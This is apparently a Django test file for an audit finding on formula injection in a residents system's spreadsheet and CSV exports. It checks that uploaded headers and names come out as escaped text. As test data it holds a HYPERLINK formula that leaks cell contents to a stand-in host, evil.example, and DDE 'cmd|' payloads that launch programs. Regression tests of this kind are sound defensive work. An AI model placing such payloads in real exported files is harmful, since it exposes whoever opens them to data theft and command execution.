"""Finding 10 (Medium): formula injection in the refused-rows workbook (uploaded header cells copied in as
live formulas, next to full ID numbers), the audit CSV (names unescaped) and the street roll-up workbook
(community name). One writer (community.spreadsheets) for every spreadsheet and CSV, escaping every text cell.
"""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
from django.conf import settings
from django.urls import reverse

from community.audit import log_action
from community.spreadsheets import SafeCSVWriter, csv_text
from residents.transfer import uploads
from tests.factories import HouseholdFactory, ResidentFactory
from tests.transfer.helpers import HEADERS, person, xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A3,"点击")'


def _formulas(content: bytes) -> list[str]:
    """Formula elements anywhere in a workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", archive.read(name))
        ]


def test_finding_10_an_uploaded_header_is_text_in_the_refused_rows_workbook(world, client_for):
    client = client_for("staff")
    headers = [*HEADERS, PAYLOAD]
    bad = person("马建军", 公民身份号码="123")
    bad[PAYLOAD] = "-1+cmd|' /C calc'!A0"
    token = uploads.store(
        xlsx([bad], headers=headers), name="居民.xlsx", community=world.a, user=world.users["staff"]
    )
    client.get(reverse("transfer:preview", kwargs={"code": "HLS", "token": token}))
    response = client.get(reverse("transfer:refused", kwargs={"code": "HLS", "token": token}))
    assert not _formulas(response.content)
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (PAYLOAD, "-1+cmd|' /C calc'!A0"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix


def test_finding_10_the_audit_csv_escapes_names_and_descriptions(world, client_for):
    resident = ResidentFactory(household=HouseholdFactory(community=world.a), name="=cmd|' /C calc'!A0")
    log_action("resident.view", user=world.users["staff"], community=world.a, obj=resident)
    text = client_for("auditor").get(reverse("audit_export")).content.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text
    assert not re.search(r"(^|,)=cmd", text, re.M)


def test_finding_10_the_street_rollup_workbook_keeps_a_community_name_as_text(world):
    from reports.exporters import get_exporter

    world.a.name = "=1+2"
    world.a.save()
    filename, _type, content = get_exporter("street-rollup")(street=world.street).render(
        {"year": 2026, "date": "2026-06-30", "format": "xlsx"}
    )
    assert filename.endswith(".xlsx") and not _formulas(content)
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    cell = next(c for row in ws.iter_rows() for c in row if c.value == "=1+2")
    assert cell.data_type == "s" and cell.quotePrefix


def test_finding_10_the_csv_writer_quotes_every_dangerous_start():
    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerow(["=A1", "+1", "-1", "@x", "\tx", "＝全角", "平常", 5, None])
    assert buffer.getvalue().strip() == "'=A1,'+1,'-1,'@x,'\tx,'＝全角,平常,5,"
    assert csv_text("马强") == "马强"


def test_finding_10_no_module_writes_spreadsheet_cells_or_csv_rows_past_the_one_writer():
    root = Path(settings.BASE_DIR)
    offenders = []
    for package in ("community", "residents", "welfare", "outreach", "reports", "grids"):
        for path in (root / package).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheets.py":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.writer\(|\bws\.append\(|\.cell\([^)]*value=", source):
                offenders.append(str(path.relative_to(root)))
    assert not offenders
